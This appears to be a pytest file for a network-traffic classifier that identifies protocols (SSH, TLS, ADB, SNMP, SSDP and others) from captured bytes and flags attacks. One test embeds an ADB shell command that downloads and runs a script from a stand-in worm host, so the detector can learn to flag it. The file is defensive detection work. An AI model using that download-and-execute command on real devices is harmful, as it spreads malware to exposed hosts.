"""What the first bytes are, and what they prove of the listener."""

from __future__ import annotations

import struct

import pytest
from tests.dialogue.said import attacks, heard

from rearguard.model.bits import TCP, UDP

C, S = "client", "server"
SSDP = b"HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\nUSN: uuid:1\r\nLOCATION: http://192.0.2.1/\r\n\r\n"
SEARCH = b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\n\r\n'


def adb(command: bytes, data: bytes = b"") -> bytes:
    word = int.from_bytes(command, "little")
    return struct.pack("<6I", word, 1, 0, len(data), 0, word ^ 0xFFFFFFFF) + data


def snmp(community: bytes, version: int = 1) -> bytes:
    inside = (
        b"\x02\x01" + bytes([version]) + b"\x04" + bytes([len(community)]) + community + b"\xa0\x02\x05\x00"
    )
    return b"\x30" + bytes([len(inside)]) + inside


CONNECT = b"\x10\x10\x00\x04MQTT\x04\x02\x00\x3c\x00\x04abcd"
HELLO = b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"


@pytest.mark.parametrize(
    ("client", "server", "port", "proto", "expected"),
    [
        (b"", b"SSH-2.0-dropbear_2012.55\r\n", 22, TCP, ("ssh", "ssh", "banner")),
        (b"SSH-2.0-Go\r\n", b"", 22, TCP, ("ssh", None, "")),
        (HELLO, b"\x16\x03\x03\x00\x31\x02\x00", 443, TCP, ("tls", None, "reply")),
        (HELLO, b"", 443, TCP, ("tls", None, "")),
        (CONNECT, b"\x20\x02\x00\x00", 1883, TCP, ("mqtt", "mqtt", "reply")),
        (CONNECT, b"", 1883, TCP, ("mqtt", None, "")),
        (adb(b"CNXN", b"host::\0"), adb(b"AUTH", b"token"), 5555, TCP, ("adb", "adb", "reply")),
        (adb(b"CNXN", b"host::\0"), b"", 5555, TCP, ("adb", None, "")),
        (
            b"DESCRIBE rtsp://x/ RTSP/1.0\r\n\r\n",
            b"RTSP/1.0 401 No\r\n\r\n",
            554,
            TCP,
            ("rtsp", "rtsp", "reply"),
        ),
        (b"OPTIONS rtsp://x/ RTSP/1.0\r\n\r\n", b"", 554, TCP, ("rtsp", None, "")),
        (b"", b"\xff\xfd\x01\r\nlogin: ", 2323, TCP, ("telnet", "telnet", "prompt")),
        (b"", b"Username: ", 4567, TCP, ("telnet", "telnet", "prompt")),
        (SEARCH, SSDP, 1900, UDP, ("ssdp", "ssdp", "reply")),
        (SEARCH, b"", 1900, UDP, ("ssdp", None, "")),
        (b"", b"NOTIFY * HTTP/1.1\r\nNTS: ssdp:alive\r\n\r\n", 1900, UDP, ("ssdp", None, "")),
        (snmp(b"public"), snmp(b"public"), 161, UDP, ("snmp", "snmp", "reply")),
        (snmp(b"public"), b"", 161, UDP, ("snmp", None, "")),
        (
            b"GET http://192.0.2.1/?ts=1&id=2&un=a&cn=b&sig=c HTTP/1.1\r\n\r\n",
            b"",
            7547,
            UDP,
            ("cwmp-udp", None, ""),
        ),
        (b"\x00\x01\x00\x00\x21\x12\xa4\x42" + bytes(12), b"", 3478, UDP, ("stun", None, "")),
        (b"\x00\x01cfg\x00octet\x00", b"\x00\x03\x00\x01data", 69, UDP, ("tftp", "tftp", "reply")),
        (
            b"\x06\x00\xff\x07" + bytes(10),
            b"\x06\x00\xff\x07" + bytes(10),
            623,
            UDP,
            ("ipmi", "ipmi", "reply"),
        ),
        (b"\x16\xfe\xfd" + bytes(20), b"", 5684, UDP, ("dtls", None, "")),
        (bytes(40), bytes(40), 37777, TCP, ("", None, "reply")),
        (bytes(40), b"", 37810, UDP, ("", None, "")),
    ],
)
def test_protocol_identity_and_answer(
    client: bytes, server: bytes, port: int, proto: int, expected: tuple[str, str | None, str]
) -> None:
    turns = [(side, payload) for side, payload in ((C, client), (S, server)) if payload]
    found = heard(turns, port=port, proto=proto)
    assert (found.speaks, found.identity, found.answer) == expected


def page(body: bytes, status: bytes = b"200 OK", headers: bytes = b"") -> list[tuple[str, bytes]]:
    head = b"HTTP/1.1 " + status + b"\r\n" + headers + b"Content-Length: %d\r\n\r\n" % len(body)
    return [(C, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"), (S, head + body)]


@pytest.mark.parametrize(
    ("turns", "identity"),
    [
        (
            page(b'<root xmlns="urn:dslforum-org:device-1-0"><a xmlns="urn:dslforum-org:device:x"/></root>'),
            "tr064",
        ),
        (page(b'<?xml version="1.0"?><root xmlns="urn:schemas-upnp-org:device-1-0"></root>'), "upnp-soap"),
        (
            page(b'<s:Envelope><s:Body><X xmlns="http://purenetworks.com/HNAP1/"/></s:Body></s:Envelope>'),
            "hnap",
        ),
        (page(b"", b"401 No", b'WWW-Authenticate: Digest realm="TR-069 CPE"\r\n'), "cwmp-cr"),
        (page(b"", b"401 No", b'WWW-Authenticate: Digest realm="home"\r\n'), None),
        (page(b"", b"303 S", b"Server: Intel(R) Active Management Technology 9.0\r\n"), "intel-amt"),
        (page(b"<html><body>my router</body></html>"), None),
        (page(b"<html>urn:dslforum-org:service:Time:1 is what TR-064 says</html>"), None),
        (page(b"<title>urn:dslforum-org:service:Time:1</title>"), None),
    ],
)
def test_an_http_answer_proves_an_interface_only_by_what_no_other_service_says(
    turns: list[tuple[str, bytes]], identity: str | None
) -> None:
    assert heard(turns).identity == identity


def test_a_shell_over_adb() -> None:
    command = b"shell:cd /data/local/tmp; wget http://dl.worm.invalid/a.sh; sh a.sh\0"
    turns = [
        (C, adb(b"CNXN", b"host::\0")),
        (S, adb(b"CNXN", b"device::\0")),
        (C, adb(b"OPEN", command)),
        (S, adb(b"OKAY")),
    ]
    found = heard(turns, port=5555)
    assert (found.answer, attacks(found)) == ("shell", ["adb-shell-download"])
    assert found.hits[0].named == ("dl.worm.invalid",)
    assert found.hits[0].proof.rec == 3


def test_an_snmp_community_is_masked_and_a_factory_one_is_told() -> None:
    found = heard([(C, snmp(b"public")), (C, snmp(b"s3cret")), (C, snmp(b"public"))], port=161, proto=UDP)
    assert attacks(found) == ["known-community"]
    assert [(secret.kind, secret.shown) for secret in found.secrets] == [("snmp-community", "********")] * 2
    assert "s3cret" not in repr(found)


@pytest.mark.parametrize(
    "text",
    [b"\x30\x05\x02\x01\x03\x30\x00", b"\x30", b"\x30\x84\xff\xff\xff\xff", b"\x30\x05\x02\x01\x00\x04\xff"],
)
def test_version_3_and_cut_messages_have_no_community(text: bytes) -> None:
    assert heard([(C, text)], port=161, proto=UDP).secrets == ()
